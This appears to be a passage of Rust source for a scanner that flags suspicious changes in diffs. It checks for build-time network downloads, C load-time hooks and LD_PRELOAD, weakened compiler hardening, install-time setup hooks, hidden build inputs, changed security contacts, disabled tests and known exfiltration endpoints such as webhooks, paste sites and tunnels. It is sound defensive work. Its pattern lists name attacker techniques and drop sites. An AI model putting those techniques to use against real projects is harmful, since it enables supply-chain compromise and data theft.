fn scan_build_network(sink: &mut Sink, line: &Line<'_>, lang: Lang) {
    let lc = lower(line.text);
    for w in ["curl", "wget", "invoke-webrequest"] {
        if let Some(p) = word_positions(&lc, w.as_bytes()).next() {
            let host = url_host(line.text)
                .map(|h| format!(" {h}"))
                .unwrap_or_default();
            sink.push(
                HitKind::NetworkAtBuildOrImport,
                line,
                false,
                p,
                &format!("{w} in build script{host}"),
            );
            return;
        }
    }
    if lang == Lang::CMake {
        for (pat, d) in [
            (&b"file(download"[..], "cmake file(DOWNLOAD)"),
            (b"file (download", "cmake file(DOWNLOAD)"),
            (b"fetchcontent_declare", "cmake FetchContent_Declare (weak)"),
            (b"externalproject_add", "cmake ExternalProject_Add (weak)"),
        ] {
            if let Some(p) = find(&lc, pat) {
                sink.push(HitKind::NetworkAtBuildOrImport, line, false, p, d);
                return;
            }
        }
    }
    if lang == Lang::WinScript
        && let Some(p) = find(&lc, b"downloadfile").or_else(|| find(&lc, b"downloadstring"))
    {
        sink.push(
            HitKind::NetworkAtBuildOrImport,
            line,
            false,
            p,
            "PowerShell download in build script",
        );
    }
}

// ---------------------------------------------------------------------------------------------
// C-level hooks
// ---------------------------------------------------------------------------------------------

/// Comment lines, and preprocessor lines other than `#pragma`/`#define` (which can hold hooks).
fn is_c_comment_line(t: &[u8]) -> bool {
    t.starts_with(b"//")
        || t.starts_with(b"/*")
        || t.starts_with(b"*")
        || (t.starts_with(b"#")
            && !t.starts_with(b"#pragma")
            && !t.starts_with(b"#define")
            && !t.starts_with(b"# define"))
}

/// The text of a GCC attribute list starting at `p` (`__attribute__((...))`), bounded.
fn attribute_body(text: &[u8], p: usize) -> Vec<u8> {
    let s = tail(text, p);
    let mut depth = 0i32;
    let mut out = Vec::new();
    for &b in s.iter().take(400) {
        if b == b'(' || b == b'[' {
            depth += 1;
        } else if b == b')' || b == b']' {
            depth -= 1;
            if depth <= 0 {
                out.push(b);
                break;
            }
        }
        if !b.is_ascii_whitespace() {
            out.push(b.to_ascii_lowercase());
        }
    }
    out
}

fn scan_c_hooks(sink: &mut Sink, line: &Line<'_>, cython: bool) {
    let text = line.text;
    let t = trim(text);
    if is_c_comment_line(t) || (cython && t.starts_with(b"#")) {
        return;
    }
    let lc = lower(text);
    for start in [&b"__attribute__"[..], b"[[gnu::", b"__declspec("] {
        for p in memmem::find_iter(&lc, start).take(16) {
            let body = attribute_body(&lc, p + start.len());
            let found = if contains(&body, b"constructor") {
                Some("constructor attribute (runs before main / at library load)")
            } else if contains(&body, b"destructor") {
                Some("destructor attribute (runs at exit / unload)")
            } else if contains(&body, b"ifunc") {
                Some("ifunc resolver (runs during relocation, before constructors)")
            } else if contains(&body, b".init_array")
                || contains(&body, b".preinit_array")
                || contains(&body, b".ctors")
            {
                Some("function placed in an init section")
            } else if contains(&body, b".fini_array") || contains(&body, b".dtors") {
                Some("function placed in a fini section")
            } else if contains(&body, b".crt$x") {
                Some("MSVC CRT initializer section")
            } else {
                None
            };
            if let Some(d) = found {
                sink.push(HitKind::CHook, line, false, p, d);
                return;
            }
        }
    }
    let checks: &[(&[u8], &str)] = &[
        (b"#pragma init", "#pragma init (runs at load)"),
        (b"#pragma fini", "#pragma fini (runs at unload)"),
        (b".crt$x", "MSVC CRT initializer section"),
        (
            b"section(\".init_array",
            "function placed in an init section",
        ),
        (b"la_symbind", "rtld-audit interface (la_symbind)"),
        (b"la_objopen", "rtld-audit interface (la_objopen)"),
        (b"_dl_audit", "dynamic linker audit internals"),
        (b"_r_debug", "dynamic linker debug structure (_r_debug)"),
        (b"__libc_start_main", "__libc_start_main reference"),
        (
            b"_global_offset_table_",
            "GOT reference (_GLOBAL_OFFSET_TABLE_)",
        ),
        (b".got.plt", "GOT/PLT section reference"),
        (b"ld_preload", "LD_PRELOAD reference"),
        (b"ld_audit", "LD_AUDIT reference"),
        (b"prot_exec", "executable memory mapping (PROT_EXEC)"),
    ];
    for (pat, d) in checks {
        if let Some(p) = find(&lc, pat) {
            sink.push(HitKind::CHook, line, false, p, d);
            return;
        }
    }
    if let Some(p) = word_positions(&lc, b"dlsym")
        .chain(word_positions(&lc, b"dlvsym"))
        .next()
    {
        let d = if contains(&lc, b"rtld_next") {
            "dlsym(RTLD_NEXT): symbol interposition"
        } else {
            "dlsym: symbol looked up at run time"
        };
        sink.push(HitKind::CHook, line, false, p, d);
        return;
    }
    if let Some(p) = word_positions(&lc, b"rtld_next").next() {
        sink.push(
            HitKind::CHook,
            line,
            false,
            p,
            "RTLD_NEXT: symbol interposition",
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Hardening flags (netted over the file: a flag moved between lines is not a change)
// ---------------------------------------------------------------------------------------------

/// A hardening-relevant flag and whether its presence weakens (true) or strengthens (false).
fn hardening_flags(text: &[u8], lang: Lang) -> Vec<(String, bool, usize)> {
    let mut out: Vec<(String, bool, usize)> = Vec::new();
    if lang == Lang::C {
        let t = trim(text);
        if t.starts_with(b"#undef") && contains(t, b"_FORTIFY_SOURCE") {
            out.push(("#undef _FORTIFY_SOURCE".into(), true, 0));
        } else if t.starts_with(b"#define") && contains(t, b"_FORTIFY_SOURCE") {
            let weak = t.ends_with(b" 0");
            out.push((lossy(t), weak, 0));
        }
        return out;
    }
    // Tokens split on whitespace, quotes, commas and brackets (so `-Wl,-z,relro` splits).
    let mut toks: Vec<(usize, &[u8])> = Vec::new();
    let mut s = None;
    for (i, &b) in text
        .iter()
        .enumerate()
        .chain(std::iter::once((text.len(), &b' ')))
    {
        let sep = b.is_ascii_whitespace()
            || matches!(
                b,
                b'"' | b'\'' | b',' | b'[' | b']' | b'(' | b')' | b'{' | b'}' | b';' | b'`'
            );
        match (sep, s) {
            (true, Some(st)) => {
                toks.push((st, text.get(st..i).unwrap_or(&[])));
                s = None;
            }
            (false, None) => s = Some(i),
            _ => {}
        }
        if toks.len() > 4096 {
            break;
        }
    }
    let mut i = 0usize;
    while let Some(&(pos, tok)) = toks.get(i) {
        i += 1;
        let lt = lower(tok);
        let t = lt.as_slice();
        let flag: Option<(String, bool)> = if t.starts_with(b"-fno-stack-protector") {
            Some((lossy(tok), true))
        } else if t.starts_with(b"-fstack-protector") {
            Some((lossy(tok), false))
        } else if t.starts_with(b"-u_fortify_source") {
            Some(("-U_FORTIFY_SOURCE".into(), true))
        } else if t.starts_with(b"-d_fortify_source") {
            Some((lossy(tok), t.ends_with(b"=0")))
        } else if t == b"-z" || t == b"-wl" {
            // `-z relro`, `-Wl,-z,now`: look at the next token.
            if t == b"-z"
                && let Some(&(_, next)) = toks.get(i)
            {
                let n = lower(next);
                let weak = matches!(n.as_slice(), b"norelro" | b"execstack" | b"lazy");
                if matches!(
                    n.as_slice(),
                    b"relro" | b"now" | b"noexecstack" | b"norelro" | b"execstack" | b"lazy"
                ) {
                    i += 1;
                    Some((format!("-z {}", lossy(next)), weak))
                } else {
                    None
                }
            } else {
                None
            }
        } else if matches!(t, b"-znorelro" | b"-zexecstack" | b"-no-pie" | b"-fno-pie") {
            Some((lossy(tok), true))
        } else if matches!(
            t,
            b"-znow" | b"-zrelro" | b"-znoexecstack" | b"-pie" | b"-fpie"
        ) {
            Some((lossy(tok), false))
        } else if t.starts_with(b"-fcf-protection") {
            Some((lossy(tok), t.ends_with(b"=none")))
        } else if t.starts_with(b"--wrap")
            || t.starts_with(b"-wrap=")
            || t.starts_with(b"-fno-sanitize")
        {
            Some((lossy(tok), true))
        } else if t.starts_with(b"-fsanitize")
            || t.starts_with(b"-db_sanitize")
            || t.starts_with(b"b_sanitize")
        {
            Some((lossy(tok), false))
        } else if t.starts_with(b"-fno-stack-clash-protection") {
            Some((lossy(tok), true))
        } else if t.starts_with(b"-fstack-clash-protection") {
            Some((lossy(tok), false))
        } else if t.starts_with(b"-ftrivial-auto-var-init") {
            Some((lossy(tok), t.ends_with(b"=uninitialized")))
        } else if t.starts_with(b"-mbranch-protection") {
            Some((lossy(tok), t.ends_with(b"=none")))
        } else if t == b"-werror"
            || t == b"--werror"
            || t == b"-dwerror=true"
            || t == b"werror=true"
        {
            Some((format!("{} (weak)", lossy(tok)), false))
        } else if t == b"-wno-error" || t == b"-dwerror=false" || t == b"werror=false" {
            Some((format!("{} (weak)", lossy(tok)), true))
        } else if t == b"/gs-"
            || t == b"/dynamicbase:no"
            || t == b"/nxcompat:no"
            || t == b"/guard:cf-"
        {
            Some((lossy(tok), true))
        } else if t == b"/gs"
            || t == b"/dynamicbase"
            || t == b"/nxcompat"
            || t == b"/guard:cf"
            || t.starts_with(b"-d_glibcxx_assertions")
        {
            Some((lossy(tok), false))
        } else {
            None
        };
        if let Some((f, weak)) = flag {
            out.push((cut(&f, 60), weak, pos));
        }
        if out.len() >= 32 {
            break;
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Sandboxing
// ---------------------------------------------------------------------------------------------

fn sandbox_term(text: &[u8]) -> Option<(usize, &'static str)> {
    let lc = lower(text);
    let terms: &[(&[u8], &str)] = &[
        (b"landlock", "landlock"),
        (b"seccomp", "seccomp"),
        (b"pledge(", "pledge"),
        (b"have_pledge", "pledge"),
        (b"unveil(", "unveil"),
        (b"have_unveil", "unveil"),
        (b"cap_enter", "capsicum"),
        (b"cap_rights_limit", "capsicum"),
        (b"capsicum", "capsicum"),
        (b"no_new_privs", "no_new_privs"),
        (b"enable_sandbox", "sandbox option"),
        (b"enable-sandbox", "sandbox option"),
        (b"disable-sandbox", "sandbox option"),
        (b"disable_sandbox", "sandbox option"),
        (b"with-sandbox", "sandbox option"),
        (b"with_sandbox", "sandbox option"),
        (b"use_sandbox", "sandbox option"),
        (b"sandbox=", "sandbox option"),
    ];
    terms
        .iter()
        .find_map(|(p, n)| find(&lc, p).map(|i| (i, *n)))
}

// ---------------------------------------------------------------------------------------------
// Build hooks
// ---------------------------------------------------------------------------------------------

const STANDARD_BACKENDS: &[&str] = &[
    "setuptools.build_meta",
    "setuptools.build_meta:__legacy__",
    "mesonpy",
    "hatchling.build",
    "flit_core.buildapi",
    "flit.buildapi",
    "poetry.core.masonry.api",
    "poetry.masonry.api",
    "pdm.backend",
    "pdm.pep517.api",
    "scikit_build_core.build",
    "maturin",
    "sipbuild.api",
    "enscons.api",
    "uv_build",
    "whey",
    "py_build_cmake.build",
    "pymsbuild",
    "trampolim",
];

/// `[section]` header at the start of each line of a TOML file (bounded), for the lines asked.
fn toml_sections(data: &[u8], wanted: &[u32]) -> Vec<String> {
    let mut out = Vec::with_capacity(wanted.len());
    let mut current = String::new();
    let mut wi = 0usize;
    for (no, text) in lines(head(data, MAX_STRUCTURE_BYTES)) {
        if wi >= wanted.len() {
            break;
        }
        let t = trim(text);
        if t.starts_with(b"[") {
            let inner = t.trim_ascii_start();
            let end = inner.iter().position(|b| *b == b'#').unwrap_or(inner.len());
            current = cut(
                lossy(trim(head(inner, end.min(256))))
                    .trim_matches(['[', ']'])
                    .trim(),
                120,
            );
        }
        while wanted.get(wi).is_some_and(|w| *w == no) {
            out.push(current.clone());
            wi += 1;
        }
    }
    while out.len() < wanted.len() {
        out.push(current.clone());
    }
    out
}

fn scan_pyproject_line(sink: &mut Sink, line: &Line<'_>, section: &str) {
    let t = trim(line.text);
    if t.starts_with(b"#") || t.is_empty() {
        return;
    }
    let s = lossy(t);
    let key = s.split('=').next().unwrap_or("").trim().trim_matches('"');
    let value = s
        .split_once('=')
        .map(|(_, v)| v.trim().trim_matches(['"', '\'']).to_string());
    let push = |sink: &mut Sink, d: &str| sink.push(HitKind::BuildHookAdded, line, false, 0, d);
    if s.starts_with('[') {
        let h = s.trim_matches(['[', ']']).trim();
        if h.starts_with("tool.hatch.build") && h.contains(".hooks.") {
            let name = h.rsplit('.').next().unwrap_or("");
            push(sink, &format!("hatch build hook '{name}'"));
        } else if h == "tool.setuptools.cmdclass" {
            push(sink, "setuptools cmdclass table");
        } else if h.starts_with("tool.scikit-build")
            && (h.contains("cmake.define") || h.contains("cmake.args"))
        {
            push(sink, "scikit-build CMake arguments table");
        } else if h == "tool.poetry.build" {
            push(sink, "poetry build script table");
        } else if h == "tool.pdm.build" {
            push(sink, "pdm build table (weak)");
        }
        return;
    }
    match (section, key) {
        ("build-system", "build-backend") => {
            let v = value.unwrap_or_default();
            if !STANDARD_BACKENDS.contains(&v.as_str()) {
                push(
                    sink,
                    &format!("non-standard build-backend '{}'", cut(&v, 60)),
                );
            }
        }
        ("build-system", "backend-path") => push(sink, "in-tree build backend (backend-path)"),
        ("build-system", "requires") => push(sink, "build requirements changed (weak)"),
        ("build-system", _) if s.starts_with('"') || s.starts_with('\'') => {
            push(sink, "build requirements changed (weak)");
        }
        ("tool.setuptools", "cmdclass") => push(sink, "setuptools cmdclass"),
        ("tool.poetry", "build") => push(sink, "poetry build script"),
        ("tool.poetry.build", "script") => push(sink, "poetry build script"),
        ("tool.pdm.build", "setup-script" | "run-setuptools") => push(sink, "pdm setup script"),
        (sec, k)
            if sec.starts_with("tool.scikit-build")
                && (k == "cmake.args"
                    || k == "cmake.define"
                    || k == "args"
                    || sec.ends_with("cmake.define")) =>
        {
            push(sink, "scikit-build CMake arguments");
        }
        (sec, _)
            if sec.starts_with("tool.hatch.build") && sec.contains(".hooks.") && key == "path" =>
        {
            push(sink, "hatch build hook path");
        }
        _ => {}
    }
}

const COMMAND_BASES: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "build_py",
    "build_ext",
    "build",
    "sdist",
    "bdist_wheel",
    "bdist_egg",
    "install_lib",
    "install_scripts",
    "install_data",
    "build_clib",
    "build_scripts",
    "easy_install",
    "_install",
    "_develop",
    "_build_py",
    "_build_ext",
    "_sdist",
    "_bdist_wheel",
    "_egg_info",
];

fn scan_setup_hooks(sink: &mut Sink, line: &Line<'_>, view: &[u8]) {
    if let Some(p) = find(view, b"cmdclass").or_else(|| find(line.text, b"'cmdclass'")) {
        sink.push(
            HitKind::BuildHookAdded,
            line,
            false,
            p,
            "setup cmdclass (weak)",
        );
        return;
    }
    let t = trim(view);
    if let Some(rest) = t.strip_prefix(b"class ") {
        let Some(open) = memchr::memchr(b'(', rest) else {
            return;
        };
        let close = memchr::memchr(b')', rest).unwrap_or(rest.len());
        let name = lossy(trim(head(rest, open)));
        let bases = lossy(rest.get(open + 1..close).unwrap_or(&[]));
        for b in bases.split(',') {
            let b = b.trim();
            let last = b.rsplit('.').next().unwrap_or(b);
            if COMMAND_BASES.contains(&last) {
                // Install-time commands run on every `pip install` of an sdist, the favourite
                // of setup.py malware; build steps are routine for C extensions.
                let when = if matches!(
                    last.trim_start_matches('_'),
                    "install"
                        | "develop"
                        | "egg_info"
                        | "easy_install"
                        | "install_lib"
                        | "install_scripts"
                        | "install_data"
                        | "bdist_egg"
                ) {
                    "install time"
                } else {
                    "build step"
                };
                sink.push(
                    HitKind::BuildHookAdded,
                    line,
                    false,
                    0,
                    &format!("setup command override {name}({b}) [{when}]"),
                );
                return;
            }
        }
    }
}

fn scan_build_file_hooks(sink: &mut Sink, line: &Line<'_>, lang: Lang) {
    let lc = lower(line.text);
    let t = trim(&lc);
    if t.starts_with(b"#") || t.starts_with(b"dnl") {
        return;
    }
    match lang {
        Lang::Meson => {
            for p in word_positions(&lc, b"run_command") {
                let a = skip_spaces(&lc, p + b"run_command".len());
                if byte_at(&lc, a) != b'(' {
                    continue;
                }
                let rest = tail(line.text, a + 1);
                let arg = rest
                    .iter()
                    .position(|b| matches!(b, b',' | b')'))
                    .map_or(rest, |e| head(rest, e));
                let arg = lossy(trim(arg));
                let arg = arg.trim_matches(['\'', '"', '[', ']']).trim();
                // Running the build's own Python or an in-tree script is routine in meson.
                let weak = matches!(arg, "py" | "py3" | "python" | "python3" | "py_mod" | "")
                    || arg.ends_with(".py");
                sink.push(
                    HitKind::BuildHookAdded,
                    line,
                    false,
                    p,
                    &format!(
                        "meson run_command({}){}",
                        cut(arg, 60),
                        if weak { " (weak)" } else { "" }
                    ),
                );
                return;
            }
        }
        Lang::CMake => {
            if let Some(p) = find(&lc, b"execute_process") {
                let prog = find(&lc, b"command")
                    .map(|c| {
                        let rest = trim(tail(line.text, c + 7));
                        let w = rest
                            .split(|b| b.is_ascii_whitespace() || *b == b')')
                            .next()
                            .unwrap_or(&[]);
                        lossy(w).trim_matches('"').to_string()
                    })
                    .unwrap_or_default();
                let d = if prog.is_empty() {
                    "cmake execute_process (runs at configure time)".to_string()
                } else {
                    format!(
                        "cmake execute_process({}) (runs at configure time)",
                        cut(&prog, 60)
                    )
                };
                sink.push(HitKind::BuildHookAdded, line, false, p, &d);
            }
        }
        Lang::Autotools => {
            if let Some(p) = find(&lc, b"ac_config_commands") {
                sink.push(
                    HitKind::BuildHookAdded,
                    line,
                    false,
                    p,
                    "AC_CONFIG_COMMANDS (shell run by config.status)",
                );
            } else if let Some(p) = find(&lc, b"syscmd") {
                sink.push(
                    HitKind::BuildHookAdded,
                    line,
                    false,
                    p,
                    "m4 syscmd/esyscmd (shell run at autoreconf time)",
                );
            }
        }
        _ => {}
    }
}

// ---------------------------------------------------------------------------------------------
// .gitignore and .gitattributes
// ---------------------------------------------------------------------------------------------

/// (strength, category) of a `.gitignore` pattern's last component when it matches build inputs.
fn ignored_build_input(component: &str, dir_of_file: &str) -> Option<(&'static str, &'static str)> {
    let c = component;
    let lc = c.to_ascii_lowercase();
    let ext = lc.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    let glob_ext = lc
        .strip_prefix("*.")
        .is_some_and(|r| !r.contains(['*', '/']));
    // Whole build-input directories.
    if matches!(
        lc.as_str(),
        "m4" | "build-aux" | "autotools" | "cmake" | "config" | "_build_utils"
    ) {
        return Some(("strong", "build input directory"));
    }
    if (lc == "*" || lc == "/*")
        && matches!(
            dir_of_file.rsplit('/').next().unwrap_or(""),
            "m4" | "build-aux" | "cmake" | "autotools" | "config"
        )
    {
        return Some(("strong", "everything in a build input directory"));
    }
    let strong_names = [
        "configure",
        "configure.ac",
        "configure.in",
        "makefile.am",
        "makefile.in",
        "cmakelists.txt",
        "meson.build",
        "meson.options",
        "meson_options.txt",
        "setup.py",
        "setup.cfg",
        "pyproject.toml",
        "hatch_build.py",
        "manifest.in",
        "aclocal.m4",
        "acinclude.m4",
        "conftest.py",
        "sitecustomize.py",
        ".gitattributes",
    ];
    if strong_names.contains(&lc.as_str()) {
        return Some(("strong", "build configuration file"));
    }
    let strong_exts = [
        "m4", "am", "ac", "cmake", "sh", "bash", "pth", "pyxbld", "mk", "ps1", "bat",
    ];
    if strong_exts.contains(&ext) && (glob_ext || !lc.contains('*')) {
        return Some(("strong", "build macro or script type"));
    }
    if ext == "in" {
        return Some(("strong", "build template (*.in)"));
    }
    let weak_exts = [
        "py", "pyx", "pxd", "pxi", "c", "h", "cc", "cpp", "cxx", "hpp", "so", "dll", "dylib", "pyd",
    ];
    if weak_exts.contains(&ext) {
        let what = match ext {
            "so" | "dll" | "dylib" | "pyd" => {
                "shared library (build outputs are routinely ignored)"
            }
            "c" | "cc" | "cpp" | "cxx" | "h" | "hpp" => {
                "C source (Cython outputs are routinely ignored)"
            }
            _ => "Python/Cython source",
        };
        return Some(("weak", what));
    }
    None
}

fn scan_gitignore_line(sink: &mut Sink, line: &Line<'_>, path: &str) {
    let t = lossy(trim(line.text));
    if t.is_empty() || t.starts_with('#') {
        return;
    }
    let negated = t.starts_with('!');
    let pat = t.trim_start_matches('!').trim_start_matches('/');
    let pat = pat.trim_end_matches('/');
    let last = pat.rsplit('/').next().unwrap_or(pat);
    let last = last.trim_start_matches("**/");
    let dir = path.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    if let Some((strength, what)) = ignored_build_input(last, dir) {
        let neg = if negated { "negation, " } else { "" };
        sink.push(
            HitKind::IgnoreHidesBuildInput,
            line,
            false,
            0,
            &format!("{strength}: {neg}'{}' matches {what}", cut(&t, 80)),
        );
    }
}

const BUILTIN_DIFF_DRIVERS: &[&str] = &[
    "ada",
    "bash",
    "bibtex",
    "cpp",
    "csharp",
    "css",
    "dts",
    "elixir",
    "fortran",
    "fountain",
    "golang",
    "html",
    "java",
    "kotlin",
    "markdown",
    "matlab",
    "objc",
    "pascal",
    "perl",
    "php",
    "python",
    "ruby",
    "rust",
    "scheme",
    "tex",
    "c",
    "astextplain",
];

fn is_source_pattern(pat: &str) -> bool {
    let lc = pat.to_ascii_lowercase();
    let last = lc.rsplit('/').next().unwrap_or(&lc);
    if matches!(last, "*" | "**") {
        return true;
    }
    let ext = last.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    matches!(
        ext,
        "py" | "pyx"
            | "pxd"
            | "pxi"
            | "pyi"
            | "c"
            | "h"
            | "cc"
            | "cpp"
            | "cxx"
            | "hpp"
            | "sh"
            | "m4"
            | "am"
            | "ac"
            | "in"
            | "cmake"
            | "build"
            | "toml"
            | "cfg"
            | "mk"
            | "s"
            | "asm"
            | "ps1"
            | "bat"
            | "yml"
            | "yaml"
            | "src"
            | "pth"
    ) || matches!(
        last,
        "configure" | "makefile" | "cmakelists.txt" | "meson.build" | "setup.py"
    )
}

fn scan_gitattributes_line(sink: &mut Sink, line: &Line<'_>) {
    let t = lossy(trim(line.text));
    if t.is_empty() || t.starts_with('#') {
        return;
    }
    let mut parts = t.split_whitespace();
    let Some(pat) = parts.next() else { return };
    let source = is_source_pattern(pat);
    for attr in parts.take(32) {
        let d = if attr == "export-ignore" {
            Some(format!(
                "export-ignore on '{}' (left out of git archive tarballs)",
                cut(pat, 80)
            ))
        } else if !source {
            None
        } else if attr == "binary" || attr == "-diff" {
            Some(format!(
                "{attr} on source '{}' (diffs hidden)",
                cut(pat, 80)
            ))
        } else if let Some(drv) = attr.strip_prefix("diff=") {
            (!BUILTIN_DIFF_DRIVERS.contains(&drv)).then(|| {
                format!(
                    "custom diff driver '{}' on source '{}' (weak)",
                    cut(drv, 40),
                    cut(pat, 80)
                )
            })
        } else if attr == "linguist-generated" || attr == "linguist-generated=true" {
            Some(format!(
                "linguist-generated on source '{}' (collapsed in review)",
                cut(pat, 80)
            ))
        } else if attr == "linguist-vendored" || attr == "linguist-vendored=true" {
            Some(format!(
                "linguist-vendored on source '{}' (weak: statistics only)",
                cut(pat, 80)
            ))
        } else {
            None
        };
        if let Some(d) = d {
            sink.push(HitKind::ExportIgnore, line, false, 0, &d);
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Security policy
// ---------------------------------------------------------------------------------------------

/// Emails and URLs on a line (bounded).
fn contacts(text: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    for p in memchr::memchr_iter(b'@', text).take(16) {
        let is_local =
            |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'%' | b'+' | b'-');
        let is_dom = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-');
        let mut s = p;
        while s > 0 && is_local(byte_at(text, s - 1)) && p - s < 64 {
            s -= 1;
        }
        let mut e = p + 1;
        while is_dom(byte_at(text, e)) && e - p < 253 {
            e += 1;
        }
        let local = text.get(s..p).unwrap_or(&[]);
        let dom = trim_dots(text.get(p + 1..e).unwrap_or(&[]));
        if !local.is_empty() && contains(dom, b".") {
            out.push(format!("{}@{}", lossy(local), lossy(dom)).to_ascii_lowercase());
        }
    }
    for p in memmem::find_iter(text, b"http").take(16) {
        let rest = tail(text, p);
        if !(rest.starts_with(b"http://") || rest.starts_with(b"https://")) {
            continue;
        }
        let e = rest
            .iter()
            .position(|b| {
                b.is_ascii_whitespace()
                    || matches!(b, b')' | b'>' | b']' | b'"' | b'\'' | b'`' | b'<')
            })
            .unwrap_or(rest.len());
        let url = trim_dots(head(rest, e.min(200)));
        out.push(lossy(url).trim_end_matches('/').to_string());
    }
    out
}

fn trim_dots(b: &[u8]) -> &[u8] {
    let mut b = b;
    while let Some((last, rest)) = b.split_last() {
        if matches!(last, b'.' | b',' | b';' | b':') {
            b = rest;
        } else {
            break;
        }
    }
    b
}

/// A line carrying policy substance: contact, reporting instruction or supported-versions row.
fn policy_signal(text: &[u8]) -> bool {
    let lc = lower(text);
    !contacts(text).is_empty()
        || [
            "report",
            "vulnerab",
            "advisor",
            "huntr",
            "tidelift",
            "disclos",
            "embargo",
            "cve",
            "supported",
            "security@",
        ]
        .iter()
        .any(|w| contains(&lc, w.as_bytes()))
        || (trim(&lc).starts_with(b"|")
            && (contains(&lc, b":white_check_mark:")
                || contains(&lc, b":x:")
                || contains(&lc, "✅".as_bytes())
                || contains(&lc, "❌".as_bytes())))
}

fn scan_security_policy(sink: &mut Sink, added: &[Line<'_>], removed: &[Line<'_>], old: &[u8]) {
    let live_added: Vec<&Line<'_>> = added.iter().filter(|l| !l.moved).collect();
    let live_removed: Vec<&Line<'_>> = removed.iter().filter(|l| !l.moved).collect();
    let mut new_contacts: Vec<(String, &Line<'_>)> = Vec::new();
    for l in &live_added {
        for c in contacts(l.text) {
            new_contacts.push((c, l));
        }
    }
    let mut old_contacts: Vec<(String, &Line<'_>)> = Vec::new();
    for l in &live_removed {
        for c in contacts(l.text) {
            old_contacts.push((c, l));
        }
    }
    let new_set: HashSet<&str> = new_contacts.iter().map(|(c, _)| c.as_str()).collect();
    let old_set: HashSet<&str> = old_contacts.iter().map(|(c, _)| c.as_str()).collect();
    let gone: Vec<&(String, &Line<'_>)> = old_contacts
        .iter()
        .filter(|(c, _)| !new_set.contains(c.as_str()))
        .collect();
    let fresh: Vec<&(String, &Line<'_>)> = new_contacts
        .iter()
        .filter(|(c, _)| !old_set.contains(c.as_str()))
        .collect();
    let mut reported = false;
    if let (Some((o, _)), Some((n, nl))) = (gone.first(), fresh.first()) {
        sink.push(
            HitKind::SecurityContactChanged,
            nl,
            false,
            0,
            &format!("{o} → {n}"),
        );
        reported = true;
    } else if let Some((o, ol)) = gone.first() {
        sink.push(
            HitKind::SecurityPolicyWeakened,
            ol,
            true,
            0,
            &format!("contact removed: {o}"),
        );
        reported = true;
    }
    let nonblank = |ls: &[&Line<'_>]| ls.iter().filter(|l| !trim(l.text).is_empty()).count();
    let (r, a) = (nonblank(&live_removed), nonblank(&live_added));
    let (rs, as_) = (
        live_removed
            .iter()
            .filter(|l| policy_signal(l.text))
            .count(),
        live_added.iter().filter(|l| policy_signal(l.text)).count(),
    );
    let old_lines = lines(old)
        .filter(|(_, t)| !trim(t).is_empty())
        .count()
        .max(1);
    let big_cut = r >= a + 3 && r * 4 >= old_lines;
    if !reported
        && (rs > as_ || big_cut)
        && let Some(first) = live_removed
            .iter()
            .find(|l| policy_signal(l.text))
            .or_else(|| live_removed.iter().find(|l| !trim(l.text).is_empty()))
    {
        let what = if a == 0 && r * 10 >= old_lines * 9 {
            "policy emptied".to_string()
        } else {
            format!("{r} lines removed, {a} added ({rs} policy lines removed, {as_} added)")
        };
        sink.push(HitKind::SecurityPolicyWeakened, first, true, 0, &what);
    }
}

// ---------------------------------------------------------------------------------------------
// Tests disabled
// ---------------------------------------------------------------------------------------------

fn scan_test_disabled(sink: &mut Sink, line: &Line<'_>, lang: Lang, class: PathClass) {
    let lc = lower(line.text);
    let t = trim(&lc);
    if lang == Lang::Yaml && t.starts_with(b"continue-on-error:") && contains(t, b"true") {
        sink.push(
            HitKind::TestDisabled,
            line,
            false,
            0,
            "continue-on-error: true (weak)",
        );
        return;
    }
    for ignore in [&b"|| true"[..], b"||true", b"|| :", b"|| exit 0"] {
        if let Some(p) = find(&lc, ignore) {
            let before = head(&lc, p);
            let testy = [
                "pytest",
                "ctest",
                "make check",
                "make test",
                "tox",
                "nox",
                "meson test",
                "spin test",
                "runtests",
                "unittest",
                "test.py",
                "ninja test",
            ]
            .iter()
            .find(|w| contains(before, w.as_bytes()));
            if let Some(w) = testy {
                sink.push(
                    HitKind::TestDisabled,
                    line,
                    false,
                    p,
                    &format!("{w} failure ignored"),
                );
                return;
            }
        }
    }
    for (pat, d) in [
        (&b"build_testing=off"[..], "BUILD_TESTING=OFF"),
        (b"build_testing off", "BUILD_TESTING OFF"),
        (b"--disable-tests", "--disable-tests"),
        (b"--without-tests", "--without-tests"),
        (b"skip_tests=1", "SKIP_TESTS=1"),
        (b"skip_tests=true", "SKIP_TESTS=true"),
    ] {
        if let Some(p) = find(&lc, pat) {
            sink.push(
                HitKind::TestDisabled,
                line,
                false,
                p,
                &format!("{d} (weak)"),
            );
            return;
        }
    }
    if lang.is_pythonish() && class.contains(PathClass::TEST_PATH) && indent(line.text) == 0 {
        let raw = trim(line.text);
        if (raw.starts_with(b"pytestmark")
            && contains(raw, b"pytest.mark.skip")
            && !contains(raw, b"skipif"))
            || raw.starts_with(b"pytest.skip(")
            || raw.starts_with(b"raise unittest.SkipTest")
            || raw.starts_with(b"raise SkipTest")
        {
            sink.push(
                HitKind::TestDisabled,
                line,
                false,
                0,
                "module-level unconditional skip (weak)",
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Endpoints and credential stores
// ---------------------------------------------------------------------------------------------

fn scan_endpoint(sink: &mut Sink, line: &Line<'_>) {
    let lc = lower(line.text);
    let named: &[(&[u8], &str)] = &[
        (b"discord.com/api/webhooks", "Discord webhook"),
        (b"discordapp.com/api/webhooks", "Discord webhook"),
        (b"hooks.slack.com/services", "Slack webhook"),
        (b"api.telegram.org/bot", "Telegram bot API"),
        (b"pastebin.com", "paste site"),
        (b"paste.ee", "paste site"),
        (b"hastebin", "paste site"),
        (b"transfer.sh", "file drop"),
        (b"ngrok.io", "tunnel"),
        (b"ngrok-free.app", "tunnel"),
        (b"ngrok.app", "tunnel"),
        (b"webhook.site", "request catcher"),
        (b"requestbin", "request catcher"),
        (b"pipedream.net", "request catcher"),
        (b"interact.sh", "OAST endpoint"),
        (b"oastify.com", "OAST endpoint"),
        (b"burpcollaborator", "OAST endpoint"),
    ];
    for (pat, d) in named {
